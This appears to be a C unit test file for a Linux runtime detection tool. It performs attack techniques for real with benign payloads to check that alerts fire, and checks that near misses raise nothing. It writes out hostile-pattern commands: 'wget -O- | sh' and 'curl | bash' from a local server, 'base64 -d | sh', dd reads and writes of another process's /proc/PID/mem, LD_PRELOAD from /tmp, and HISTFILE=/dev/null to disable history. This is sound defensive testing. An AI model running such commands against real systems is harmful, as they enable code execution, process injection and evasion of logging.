/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The rules of issue 20 that need captures at exec or open on the live kernel: the script an
 * interpreter runs (proc.script), another process's memory (file.proc_other), the environment at
 * exec (proc.env.*) and the other end of a stdio pipe (proc.stdin_writer.*, proc.stdout_reader.*).
 * The process and files tracers run in-process with the default rules; each technique is performed
 * for real (a #! script in /tmp, dd on /proc/PID/mem, an exec with LD_PRELOAD, "base64 -d | sh",
 * "wget -O- | sh" from a busybox httpd on 127.0.0.1) and raises one alert naming the process and the
 * object; a near miss (a user's ./build.sh in their home, /proc/self/mem, ps, "cat | sh",
 * "echo hi | base64 | cat", LD_LIBRARY_PATH=/usr/lib/...) raises none although its exec or open
 * was seen. Scripts live in /tmp/cwatch-cap-PID and /home/cwatch-cap-PID, removed afterwards. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <cmocka.h>
#include "rules-test.h"

static char tmpdir[64], home[64];

static void write_file(const char *path, const char *text, mode_t mode)
{
        FILE *f = fopen(path, "we");

        assert_non_null(f);
        assert_true(fputs(text, f) >= 0);
        assert_int_equal(fclose(f), 0);
        assert_int_equal(chmod(path, mode), 0);
}

static const char *in_dir(const char *dir, const char *name)
{
        static char p[4][PATH_MAX];
        static unsigned n;
        char *s = p[n++ % 4];

        snprintf(s, PATH_MAX, "%s/%s", dir, name);
        return s;
}

/* Runs argv in cwd (NULL: here) with environment envp (NULL: PATH only), stdin and stdout on
 * /dev/null; asserts exit status 0 unless check is false. Returns the pid. */
static pid_t run_full(const char *cwd, char *const envp[], bool check, char *const argv[])
{
        static char *const plain_env[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL };
        pid_t pid = fork();
        int st;

        assert_true(pid >= 0);
        if (pid == 0) {
                int fd = open("/dev/null", O_RDWR);

                dup2(fd, 0);
                dup2(fd, 1);
                if (cwd && chdir(cwd) < 0)
                        _exit(126);
                execve(argv[0], argv, envp ?: plain_env);
                _exit(127);
        }
        st = tt_wait(pid);
        rt_wait_exit_record(pid);
        if (check && (!WIFEXITED(st) || WEXITSTATUS(st) != 0))
                fail_msg("%s exited with status 0x%x", argv[0], st);
        return pid;
}

#define RUN_IN(cwd, ...) run_full((cwd), NULL, true, (char *const[]) { __VA_ARGS__, NULL })
#define RUN_ENV(envp, ...) run_full(NULL, (envp), true, (char *const[]) { __VA_ARGS__, NULL })

/* The exec record of pid whose exe is exe (the process may exec several times). */
static struct json_object *exec_of(pid_t pid, const char *exe)
{
        for (size_t i = 0; i < rt.tt.n_records; i++) {
                struct json_object *o = rt.tt.records[i], *v;

                if (json_object_object_get_ex(o, "event", &v) && streq(json_object_get_string(v), "exec") &&
                    json_object_object_get_ex(o, "pid", &v) && json_object_get_int64(v) == pid &&
                    json_object_object_get_ex(o, "exe", &v) && streq(json_object_get_string(v), exe))
                        return o;
        }
        return NULL;
}

/* Whether the string list column name of o holds s. */
static bool strv_column_has(struct json_object *o, const char *name, const char *s)
{
        struct json_object *v;

        if (!o || !json_object_object_get_ex(o, name, &v) || !json_object_is_type(v, json_type_array))
                return false;
        for (size_t i = 0; i < json_object_array_length(v); i++)
                if (streq(json_object_get_string(json_object_array_get_idx(v, i)), s))
                        return true;
        return false;
}

/* Asserts that the files tracer reported the open of path by pid: a near miss was seen. */
static void assert_opened(pid_t pid, const char *path)
{
        for (size_t i = 0; i < rt.tt.n_records; i++) {
                struct json_object *o = rt.tt.records[i], *v;

                if (json_object_object_get_ex(o, "event", &v) && streq(json_object_get_string(v), "open") &&
                    json_object_object_get_ex(o, "pid", &v) && json_object_get_int64(v) == pid &&
                    json_object_object_get_ex(o, "path", &v) && streq(json_object_get_string(v), path))
                        return;
        }
        fail_msg("no open of %s by %d", path, pid);
}

static const char *str_column(struct json_object *o, const char *name)
{
        struct json_object *v;

        return o && json_object_object_get_ex(o, name, &v) ? json_object_get_string(v) : NULL;
}

static const struct seen *assert_alert(const char *rule, pid_t pid, const char *exe, const char *mitre,
                                       const char *message_part)
{
        const struct seen *s = rt_assert_one(rule, pid, exe);

        assert_string_equal(s->mitre, mitre);
        if (message_part && !strstr(s->message, message_part))
                fail_msg("%s: message \"%s\" lacks \"%s\"", rule, s->message, message_part);
        return s;
}

/* ---- scripts ---- */

static void test_script_shebang_in_tmp(void **state)
{
        const char *script = in_dir(tmpdir, "x.sh");
        char msg[PATH_MAX + 64];
        pid_t pid;

        write_file(script, "#!/bin/sh\nexit 0\n", 0755);
        pid = RUN_IN(NULL, (char *) script);
        snprintf(msg, sizeof(msg), "Script %s run from a temporary directory by /usr/bin/dash", script);
        assert_alert("script-from-tmp", pid, "/usr/bin/dash", "T1059", msg);
        /* the executable is the interpreter: exec-from-tmp has nothing to say */
        assert_int_equal(rt_count("exec-from-tmp", pid), 0);
        assert_string_equal(str_column(exec_of(pid, "/usr/bin/dash"), "script"), script);
}

static void test_script_argument_relative(void **state)
{
        const char *script = in_dir(tmpdir, "y.sh");
        pid_t pid;

        write_file(script, "exit 0\n", 0644);
        /* "sh y.sh" in the script's directory: made absolute with the working directory at exec */
        pid = RUN_IN(tmpdir, "/bin/sh", "-e", "y.sh");
        assert_alert("script-from-tmp", pid, "/usr/bin/dash", "T1059", script);
        /* and "./y.sh" through bash, options with values skipped */
        pid = RUN_IN(tmpdir, "/bin/bash", "-o", "pipefail", "./y.sh");
        assert_alert("script-from-tmp", pid, "/usr/bin/bash", "T1059", script);
        /* sh -c runs no file */
        pid = RUN_IN(tmpdir, "/bin/sh", "-c", "exit 0", "y.sh");
        rt_assert_none(pid);
}

static void test_hidden_script(void **state)
{
        const char *script = in_dir(home, ".update.sh");
        pid_t pid;

        write_file(script, "#!/bin/sh\nexit 0\n", 0755);
        pid = RUN_IN(home, "./.update.sh");
        assert_alert("hidden-script", pid, "/usr/bin/dash", "T1564.001", script);
        assert_int_equal(rt_count("script-from-tmp", pid), 0);
}

static void test_script_near_miss(void **state)
{
        const char *script = in_dir(home, "build.sh");
        pid_t pid;

        write_file(script, "#!/bin/sh\nexit 0\n", 0755);
        pid = RUN_IN(home, "./build.sh");
        assert_string_equal(str_column(exec_of(pid, "/usr/bin/dash"), "script"), script);
        rt_assert_none(pid);
        pid = RUN_IN(home, "/usr/bin/python3", "-S", "-c", "pass");
        assert_null(str_column(exec_of(pid, "/usr/bin/python3.11"), "script"));
        rt_assert_none(pid);
}

/* ---- another process's memory ---- */

static void test_other_process_memory(void **state)
{
        char *sleep_argv[] = { "/bin/sleep", "30", NULL };
        pid_t target = rt_spawn(sleep_argv, false, -1, -1), pid;
        char in[64], out[64], path[32], dir[32], task[64];
        const struct seen *s;

        snprintf(dir, sizeof(dir), "/proc/%d", target);
        snprintf(path, sizeof(path), "/proc/%d/mem", target);
        snprintf(in, sizeof(in), "if=%s", path);
        snprintf(out, sizeof(out), "of=%s", path);
        /* maps, then mem, as memory dumpers do */
        pid = RUN_IN(NULL, "/bin/sh", "-c", "cat $0/maps >/dev/null && exec dd \"$1\" of=/dev/null count=0",
                     dir, in);
        s = assert_alert("read-other-process-memory", pid, "/usr/bin/dd", "T1003.007", path);
        assert_string_equal(s->path, path);
        assert_int_equal(rt_count("write-other-process-memory", pid), 0);

        pid = RUN_IN(NULL, "/bin/dd", "if=/dev/zero", out, "conv=notrunc", "count=0");
        s = assert_alert("write-other-process-memory", pid, "/usr/bin/dd", "T1055.009", path);
        assert_string_equal(s->path, path);

        /* near misses: its own memory (the kernel's path says /proc/PID, its own), and ps */
        pid = RUN_IN(NULL, "/bin/dd", "if=/proc/self/mem", "of=/dev/null", "count=0");
        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        assert_opened(pid, path);
        rt_assert_none(pid);
        pid = RUN_IN(NULL, "/bin/dd", "if=/proc/thread-self/mem", "of=/dev/null", "count=0");
        snprintf(task, sizeof(task), "/proc/%d/task/%d/mem", pid, pid);
        assert_opened(pid, task);
        rt_assert_none(pid);
        pid = RUN_IN(NULL, "/bin/ps", "-e", "-o", "pid,comm");
        rt_assert_none(pid);
        kill(target, SIGKILL);
        tt_wait(target);
}

/* ---- the environment at exec ---- */

static void test_ld_preload(void **state)
{
        char preload[PATH_MAX + 16], *big;
        pid_t pid;

        snprintf(preload, sizeof(preload), "LD_PRELOAD=%s", in_dir(tmpdir, "libhook.so"));
        /* the loader complains that it cannot preload it and runs the program */
        pid = RUN_ENV(((char *const[]) { "PATH=/usr/bin:/bin", preload, NULL }), "/bin/true");
        assert_alert("library-preload-from-writable-dir", pid, "/usr/bin/true", "T1574.006", preload);

        pid = RUN_ENV(((char *const[]) { "PATH=/usr/bin:/bin", "LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu",
                                         NULL }), "/bin/true");
        rt_assert_none(pid);
        assert_true(strv_column_has(exec_of(pid, "/usr/bin/true"), "env",
                                    "LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu"));

        /* a variable past the scan's bounds (70 KB of environment before it) is not seen, and says so */
        big = malloc(70001);
        assert_non_null(big);
        memcpy(big, "PAD=", 4);
        memset(big + 4, 'x', 69996);
        big[70000] = '\0';
        pid = RUN_ENV(((char *const[]) { big, "PATH=/usr/bin:/bin", preload, NULL }), "/bin/echo");
        free(big);
        assert_alert("library-preload-from-writable-dir", pid, "/usr/bin/echo", "T1574.006", "env_truncated=true");
}

static void test_history_disabled(void **state)
{
        pid_t pid;

        pid = RUN_ENV(((char *const[]) { "PATH=/usr/bin:/bin", "HISTFILE=/dev/null", NULL }),
                      "/bin/bash", "-c", "exit 0");
        assert_alert("shell-history-disabled", pid, "/usr/bin/bash", "T1070.003", "HISTFILE=/dev/null");
        pid = RUN_ENV(((char *const[]) { "PATH=/usr/bin:/bin", "HISTSIZE=0", NULL }), "/bin/sh", "-c",
                      "sh -c 'exit 0'; exit 0");
        assert_alert("shell-history-disabled", pid, "/usr/bin/dash", "T1070.003", "HISTSIZE=0");
        /* the shell it starts inherits the variable: raised once, where it was set */
        for (size_t i = 0; i < rt.n_alerts; i++)
                if (rt.alerts[i].ppid == (uint32_t) pid)
                        fail_msg("%s raised for a child of %d", rt.alerts[i].rule, pid);
        /* a value that only starts like one, and a name that only starts like one */
        pid = RUN_ENV(((char *const[]) { "PATH=/usr/bin:/bin", "HISTSIZE=0500", "HISTFILEX=/dev/null",
                                         "X=HISTFILE=/dev/null", NULL }), "/bin/sh", "-c", "exit 0");
        rt_assert_none(pid);
}

/* ---- payloads piped into a shell ---- */

/* The one alert of rule raised by a child of parent. */
static const struct seen *alert_of_child(const char *rule, pid_t parent)
{
        const struct seen *found = NULL;

        for (size_t i = 0; i < rt.n_alerts; i++) {
                if (!streq(rt.alerts[i].rule, rule) || rt.alerts[i].ppid != (uint32_t) parent)
                        continue;
                if (found)
                        fail_msg("two alerts %s under pid %d", rule, parent);
                found = &rt.alerts[i];
        }
        if (!found) {
                for (size_t i = 0; i < rt.n_alerts; i++)
                        fprintf(stderr, "seen: %s pid %u ppid %u %s: %s\n", rt.alerts[i].rule, rt.alerts[i].pid,
                                rt.alerts[i].ppid, rt.alerts[i].exe, rt.alerts[i].message);
                fail_msg("no alert %s under pid %d", rule, parent);
        }
        return found;
}

static size_t alerts_of(const char *rule)
{
        size_t n = 0;

        for (size_t i = 0; i < rt.n_alerts; i++)
                n += streq(rt.alerts[i].rule, rule);
        return n;
}

/* The alert pipeline counts repeats of a signature (rule, executable, ...) instead of sending them: each
 * case below raises at another executable. */
static void assert_pipeline_alert(const char *rule, pid_t parent, const char *writer_exe, const char *writer,
                                  const char *shell_exe, const char *shell, const char *mitre)
{
        const struct seen *s;

        /* let the pipeline's last records in */
        tt_run_for(&rt.tt, 200);
        s = alert_of_child(rule, parent);
        assert_string_equal(s->mitre, mitre);
        /* raised at the second exec: the shell's, or the writer's */
        if (!streq(s->exe, shell_exe) && !streq(s->exe, writer_exe))
                fail_msg("%s raised for %s", rule, s->exe);
        if (!strstr(s->message, writer) || !strstr(s->message, shell))
                fail_msg("%s: message \"%s\" does not name %s and %s", rule, s->message, writer, shell);
}

static void test_decoded_into_shell(void **state)
{
        size_t before;
        pid_t pid;

        /* either order, and each order forced: the writer first, then the shell first */
        pid = RUN_IN(NULL, "/bin/sh", "-c", "echo aWQ= | base64 -d | sh");
        assert_pipeline_alert("decoded-payload-into-shell", pid, "/usr/bin/base64", "base64 -d", "/usr/bin/dash",
                              "| sh", "T1140");
        pid = RUN_IN(NULL, "/bin/sh", "-c", "echo NFSAU=== | base32 -d | { sleep 0.3; exec bash; }");
        assert_pipeline_alert("decoded-payload-into-shell", pid, "/usr/bin/base32", "base32 -d", "/usr/bin/bash",
                              "| bash", "T1140");
        assert_string_equal(alert_of_child("decoded-payload-into-shell", pid)->exe, "/usr/bin/bash");
        pid = RUN_IN(NULL, "/bin/sh", "-c", "echo 6964 | { sleep 0.3; exec xxd -r -p; } | sh");
        assert_pipeline_alert("decoded-payload-into-shell", pid, "/usr/bin/xxd", "xxd -r -p", "/usr/bin/dash",
                              "| sh", "T1140");
        assert_string_equal(alert_of_child("decoded-payload-into-shell", pid)->exe, "/usr/bin/xxd");

        /* through a stage that only passes the payload on, and execs last */
        pid = RUN_IN(NULL, "/bin/sh", "-c", "echo aWQ= | base64 -d | { sleep 0.3; exec cat; } | sh");
        tt_run_for(&rt.tt, 200);
        {
                const struct seen *s = alert_of_child("decoded-payload-into-shell", pid);

                assert_string_equal(s->exe, "/usr/bin/cat");
                if (!strstr(s->message, "base64 -d | cat | sh"))
                        fail_msg("message \"%s\" lacks the pipeline", s->message);
        }

        /* near misses: cat is no decoder; base64 into cat is no shell */
        write_file(in_dir(tmpdir, "plain"), "exit 0\n", 0644);
        before = alerts_of("decoded-payload-into-shell") + alerts_of("download-piped-into-shell");
        pid = RUN_IN(home, "/bin/sh", "-c", "cat \"$0\" | sh", (char *) in_dir(tmpdir, "plain"));
        pid = RUN_IN(NULL, "/bin/sh", "-c", "echo hi | base64 | cat");
        tt_run_for(&rt.tt, 200);
        assert_int_equal(alerts_of("decoded-payload-into-shell") + alerts_of("download-piped-into-shell"),
                         before);
}

/* A port free on 127.0.0.1 now. */
static int free_port(void)
{
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        socklen_t len = sizeof(a);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), port;

        assert_true(fd >= 0);
        assert_int_equal(bind(fd, (struct sockaddr *) &a, sizeof(a)), 0);
        assert_int_equal(getsockname(fd, (struct sockaddr *) &a, &len), 0);
        port = ntohs(a.sin_port);
        close(fd);
        return port;
}

static bool port_open(int port)
{
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port),
                                 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        bool ok = fd >= 0 && connect(fd, (struct sockaddr *) &a, sizeof(a)) == 0;

        if (fd >= 0)
                close(fd);
        return ok;
}

static void test_download_into_shell(void **state)
{
        char listen[32], url[96], cmd[256];
        int port = free_port();
        size_t before;
        pid_t httpd, pid;

        write_file(in_dir(tmpdir, "install.sh"), "exit 0\n", 0644);
        snprintf(listen, sizeof(listen), "127.0.0.1:%d", port);
        httpd = rt_spawn((char *[]) { "/bin/busybox", "httpd", "-f", "-p", listen, "-h", tmpdir, NULL },
                         false, -1, -1);
        for (int i = 0; i < 100 && !port_open(port); i++)
                usleep(20000);
        assert_true(port_open(port));

        snprintf(url, sizeof(url), "http://127.0.0.1:%d/install.sh", port);
        snprintf(cmd, sizeof(cmd), "wget -q -O- %s | sh", url);
        pid = RUN_IN(NULL, "/bin/sh", "-c", cmd);
        assert_pipeline_alert("download-piped-into-shell", pid, "/usr/bin/wget", "wget -q -O-", "/usr/bin/dash",
                              "| sh", "T1059.004");
        snprintf(cmd, sizeof(cmd), "curl -s %s | { sleep 0.3; exec bash; }", url);
        pid = RUN_IN(NULL, "/bin/sh", "-c", cmd);
        assert_pipeline_alert("download-piped-into-shell", pid, "/usr/bin/curl", "curl -s", "/usr/bin/bash",
                              "| bash", "T1059.004");
        assert_string_equal(alert_of_child("download-piped-into-shell", pid)->exe, "/usr/bin/bash");

        /* near miss: an interpreter given its code reads the download as data */
        before = alerts_of("download-piped-into-shell");
        snprintf(cmd, sizeof(cmd), "curl -s %s | python3 -S -c 'import sys; sys.stdin.read()'", url);
        pid = RUN_IN(NULL, "/bin/sh", "-c", cmd);
        tt_run_for(&rt.tt, 200);
        assert_int_equal(alerts_of("download-piped-into-shell"), before);

        kill(httpd, SIGTERM);
        tt_wait(httpd);
}

static int setup(void **state)
{
        static const char *const tracers[] = { "process", "files", NULL };

        snprintf(tmpdir, sizeof(tmpdir), "/tmp/cwatch-cap-%d", getpid());
        snprintf(home, sizeof(home), "/home/cwatch-cap-%d", getpid());
        if (mkdir(tmpdir, 0755) < 0 || mkdir(home, 0755) < 0) {
                fprintf(stderr, "FAIL: cannot create %s or %s: %m\n", tmpdir, home);
                return -1;
        }
        return rt_setup(tracers);
}

static int teardown(void **state)
{
        char cmd[2 * PATH_MAX + 16];

        snprintf(cmd, sizeof(cmd), "rm -rf %s %s", tmpdir, home);
        (void) system(cmd);
        return rt_teardown();
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_script_shebang_in_tmp),
                cmocka_unit_test(test_script_argument_relative),
                cmocka_unit_test(test_hidden_script),
                cmocka_unit_test(test_script_near_miss),
                cmocka_unit_test(test_other_process_memory),
                cmocka_unit_test(test_ld_preload),
                cmocka_unit_test(test_history_disabled),
                cmocka_unit_test(test_decoded_into_shell),
                cmocka_unit_test(test_download_into_shell),
        };

        tt_require_privileges();
        return cmocka_run_group_tests(tests, setup, teardown);
}
